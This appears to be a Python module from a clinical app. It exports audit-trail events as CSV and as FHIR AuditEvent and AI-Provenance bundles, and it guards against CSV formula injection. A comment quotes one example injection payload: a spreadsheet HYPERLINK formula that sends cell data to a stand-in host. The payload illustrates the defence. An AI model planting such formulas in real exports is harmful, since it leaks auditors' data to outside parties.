"""Exports of a filtered range of the audit trail: CSV, and FHIR R4 (R4B models) AuditEvent
+ Provenance in a collection Bundle.

Provenance follows HL7's AI Transparency on FHIR guide where it fits: one Provenance per
completed reasoning run, profiled as AI-Provenance, labelled AI-asserted (AIAST), the model
as the author Device (contained, with its name and revision), the clinician whose latest
review judged the answer as verifier, and the confidence as the AIconfidence extension."""

from __future__ import annotations

import csv
import json
import uuid
from collections.abc import Iterable, Iterator
from typing import Any

from fhir.resources.R4B.auditevent import AuditEvent as FhirAuditEvent
from fhir.resources.R4B.bundle import Bundle
from pydantic import ValidationError

from audit.models import Action, AuditEvent, Outcome
from clinical.models import ClinicianReview
from reasoning.models import ReasoningRun

CSV_COLUMNS = (
    "id",
    "recorded_at",
    "actor_label",
    "actor_id",
    "role",
    "action",
    "code",
    "outcome",
    "object_type",
    "object_id",
    "case_id",
    "source_address",
    "request_id",
    "details",
    "prev_hash",
    "hash",
)

CODE_SYSTEM = "urn:bedside:audit-event-code"
CASE_SYSTEM = "urn:bedside:case"
RUN_SYSTEM = "urn:bedside:reasoning-run"
USER_SYSTEM = "urn:bedside:user"
AI_PROVENANCE = "http://hl7.org/fhir/uv/aitransparency/StructureDefinition/AI-Provenance"
AI_CONFIDENCE = "http://hl7.org/fhir/uv/aitransparency/StructureDefinition/AIconfidence"
PARTICIPANT_TYPE = "http://terminology.hl7.org/CodeSystem/provenance-participant-type"
# FHIR R4 AuditEvent.outcome: 0 success, 4 minor failure (the request was refused or failed).
FHIR_OUTCOME = {Outcome.SUCCESS: "0", Outcome.FAILURE: "4"}
FHIR_ACTION = {a.value for a in Action}
# The tag on an AuditEvent exported from a stored row that does not make a valid resource (a
# value outside its field's choices, written past the application): the row is exported as
# stored, flagged, rather than the whole export failing or the row silently left out.
FLAG_SYSTEM = "urn:bedside:export-flag"
FLAG_INVALID = "invalid-stored-event"


def _urn(kind: str, key: object) -> str:
    """A stable urn:uuid for a Bundle entry (fullUrl must be an absolute URI)."""
    return f"urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, f'urn:bedside:{kind}:{key}')}"


# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
# (CSV injection): a user name typed at the sign-in form, say
# =HYPERLINK("http://evil.example/?"&A2&B2,"Open"), would send the auditor's export elsewhere.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> str:
    """The cell as text, with a leading ' when a spreadsheet would read it as a formula
    (OWASP's advice): the auditor sees the text as recorded, after the quote, and nothing runs."""
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(events: Iterable[AuditEvent]) -> Iterator[str]:
    """One header line, then one line per event; details as canonical JSON. Every cell goes
    through spreadsheet_safe: the text of any column may come from outside."""
    writer = csv.writer(_Echo())
    yield writer.writerow(CSV_COLUMNS)
    for event in events:
        row = []
        for column in CSV_COLUMNS:
            value = getattr(event, column)
            if column == "details":
                value = json.dumps(value, sort_keys=True, separators=(",", ":"))
            elif column == "recorded_at":
                value = value.isoformat()
            row.append("" if value is None else spreadsheet_safe(value))
        yield writer.writerow(row)


def audit_event_resource(event: AuditEvent) -> dict[str, Any]:
    person = event.actor_id is not None
    entities: list[dict[str, Any]] = [
        {
            "what": {"identifier": {"system": "urn:bedside:audit-event", "value": str(event.id)}},
            "description": "this event's place in the hash chain",
            "detail": [
                # An event committed after the export linked the chain has no links yet.
                {"type": "prev_hash", "valueString": event.prev_hash or "unlinked"},
                {"type": "hash", "valueString": event.hash or "unlinked"},
                {
                    "type": "details",
                    "valueString": json.dumps(event.details, sort_keys=True),
                },
            ],
        }
    ]
    if event.case_id:
        entities.append(
            {
                "what": {"identifier": {"system": CASE_SYSTEM, "value": str(event.case_id)}},
                "type": {"code": "2", "display": "System Object"},
                "role": {"code": "4", "display": "Domain Resource"},
            }
        )
    if event.object_type and event.object_type != "case":
        entities.append(
            {
                "what": {
                    "identifier": {
                        "system": f"urn:bedside:{event.object_type}",
                        "value": event.object_id or "-",
                    }
                }
            }
        )
    agent: dict[str, Any] = {
        "type": {"text": event.role},
        "who": {"display": event.actor_label},
        "requestor": person,
    }
    if person:
        agent["who"]["identifier"] = {"system": USER_SYSTEM, "value": str(event.actor_id)}
    if event.source_address:
        agent["network"] = {"address": event.source_address, "type": "2"}
    resource: dict[str, Any] = {
        "resourceType": "AuditEvent",
        "id": f"bedside-{event.id}",
        "type": {
            "system": "http://terminology.hl7.org/CodeSystem/audit-event-type",
            "code": "rest",
            "display": "RESTful Operation",
        },
        "subtype": [{"system": CODE_SYSTEM, "code": event.code}],
        "action": event.action if event.action in FHIR_ACTION else "E",
        "recorded": event.recorded_at.isoformat(),
        "outcome": FHIR_OUTCOME.get(Outcome(event.outcome), "4"),
        "agent": [agent],
        "source": {"observer": {"display": "Bedside"}, "site": "bedside"},
        "entity": entities,
    }
    if event.request_id:
        resource["source"]["observer"]["identifier"] = {
            "system": "urn:bedside:request-id",
            "value": event.request_id,
        }
    return resource


def _problem(exc: Exception) -> str:
    """What is wrong with a row, naming fields, never quoting values."""
    if isinstance(exc, ValidationError):
        return "; ".join(
            f"{'.'.join(str(part) for part in error['loc'])}: {error['msg']}"
            for error in exc.errors(include_url=False, include_input=False)
        )[:500]
    return f"{type(exc).__name__}: {exc}"[:500]


def flagged_event_resource(event: AuditEvent, problem: str) -> dict[str, Any]:
    """A minimal valid AuditEvent for a stored row that is not one: tagged invalid, with the
    problem and the row's stored values as text, so the auditor sees which row to check
    (``manage.py verify_audit`` names tampered ones)."""
    stored = {
        field.attname: getattr(event, field.attname) for field in AuditEvent._meta.concrete_fields
    }
    return {
        "resourceType": "AuditEvent",
        "id": f"bedside-{event.id}",
        "meta": {
            "tag": [
                {
                    "system": FLAG_SYSTEM,
                    "code": FLAG_INVALID,
                    "display": "the stored event is not a valid audit event; verify the chain",
                }
            ]
        },
        "type": {
            "system": "http://terminology.hl7.org/CodeSystem/audit-event-type",
            "code": "rest",
        },
        "recorded": event.recorded_at.isoformat(),
        "outcomeDesc": f"exported as stored, not valid: {problem}",
        "agent": [{"who": {"display": str(event.actor_label)}, "requestor": False}],
        "source": {"observer": {"display": "Bedside"}, "site": "bedside"},
        "entity": [
            {
                "what": {
                    "identifier": {"system": "urn:bedside:audit-event", "value": str(event.id)}
                },
                "detail": [
                    {
                        "type": "stored",
                        "valueString": json.dumps(stored, sort_keys=True, default=str),
                    }
                ],
            }
        ],
    }


def checked_event_resource(event: AuditEvent, *, validate: bool = False) -> dict[str, Any]:
    """The event as an AuditEvent (validated on its own when asked), or, when its stored
    values do not make one, flagged."""
    try:
        resource = audit_event_resource(event)
        if validate:
            FhirAuditEvent.model_validate(resource)
    except (ValueError, TypeError, KeyError) as exc:  # pydantic's ValidationError included
        return flagged_event_resource(event, _problem(exc))
    return resource


def provenance_resource(run: ReasoningRun, review: ClinicianReview | None) -> dict[str, Any]:
    device = {
        "resourceType": "Device",
        "id": "model",
        "deviceName": [{"name": run.model_name or "unknown model", "type": "model-name"}],
        "version": [{"value": run.model_revision or "unknown"}],
        "type": {"text": "AI large language model"},
    }
    agents: list[dict[str, Any]] = [
        {
            "type": {"coding": [{"system": PARTICIPANT_TYPE, "code": "author"}]},
            "who": {"reference": "#model", "display": run.model_name},
        }
    ]
    if review is not None:
        agents.append(
            {
                "type": {"coding": [{"system": PARTICIPANT_TYPE, "code": "verifier"}]},
                "who": {
                    "identifier": {"system": USER_SYSTEM, "value": str(review.reviewer_id)},
                    "display": review.reviewer.get_username(),
                },
            }
        )
    resource: dict[str, Any] = {
        "resourceType": "Provenance",
        "id": f"bedside-run-{run.pk}",
        "meta": {
            "profile": [AI_PROVENANCE],
            "security": [
                {
                    "system": "http://terminology.hl7.org/CodeSystem/v3-ObservationValue",
                    "code": "AIAST",
                    "display": "Artificial Intelligence asserted",
                }
            ],
        },
        "contained": [device],
        "target": [
            {
                "identifier": {"system": RUN_SYSTEM, "value": str(run.pk)},
                "display": "the model's assessment of the case",
            }
        ],
        "occurredDateTime": run.created_at.isoformat(),
        "recorded": run.created_at.isoformat(),
        "agent": agents,
        "entity": [
            {
                "role": "source",
                "what": {"identifier": {"system": CASE_SYSTEM, "value": str(run.case_id)}},
            },
            {
                "role": "source",
                "what": {
                    "identifier": {
                        "system": "urn:bedside:prompt-template",
                        "value": f"{run.prompt_version}@{run.prompt_sha256}",
                    }
                },
            },
        ],
    }
    # The checked answer's coded diagnoses, each an ICD-10-CM identifier the run derived.
    for diagnosis in (run.assessment or {}).get("differential") or []:
        coding = diagnosis.get("coding") if isinstance(diagnosis, dict) else None
        if coding:
            resource["entity"].append(
                {
                    "role": "derivation",
                    "what": {
                        "identifier": {"system": coding["system"], "value": coding["code"]},
                        "display": f"suggested diagnosis: {coding['description']}"[:200],
                    },
                }
            )
    if run.confidence is not None:
        resource["extension"] = [{"url": AI_CONFIDENCE, "valueDecimal": run.confidence}]
    if review is not None:
        resource["reason"] = [{"text": f"clinician review: {review.decision}"}]
    return resource


def fhir_bundle(events: list[AuditEvent]) -> dict[str, Any]:
    """A collection Bundle: every event as an AuditEvent, and a Provenance for every
    reasoning run whose completion is among the events."""
    run_ids = [
        int(e.object_id)
        for e in events
        if e.code == "run.completed" and e.object_type == "reasoning_run" and e.object_id
    ]
    runs = ReasoningRun.objects.in_bulk(run_ids)
    latest_reviews: dict[int, ClinicianReview] = {}
    for review in (
        ClinicianReview.objects.filter(run_id__in=run_ids)
        .select_related("reviewer")
        .order_by("created_at", "id")
    ):
        latest_reviews[review.run_id] = review
    entries = [
        {"fullUrl": _urn("audit-event", e.id), "resource": checked_event_resource(e)}
        for e in events
    ]
    entries += [
        {
            "fullUrl": _urn("provenance", run_id),
            "resource": provenance_resource(runs[run_id], latest_reviews.get(run_id)),
        }
        for run_id in run_ids
        if run_id in runs
    ]
    bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
    # Validated once, whole, by the R4B models (every entry's resource with it): an export an
    # auditor cannot load elsewhere is worse than none. When it fails, each event is checked
    # on its own and the ones that fail are flagged; what still fails then is our own bug.
    try:
        Bundle.model_validate(bundle)
    except ValidationError:
        for entry, event in zip(entries, events, strict=False):
            entry["resource"] = checked_event_resource(event, validate=True)
        Bundle.model_validate(bundle)
    return bundle
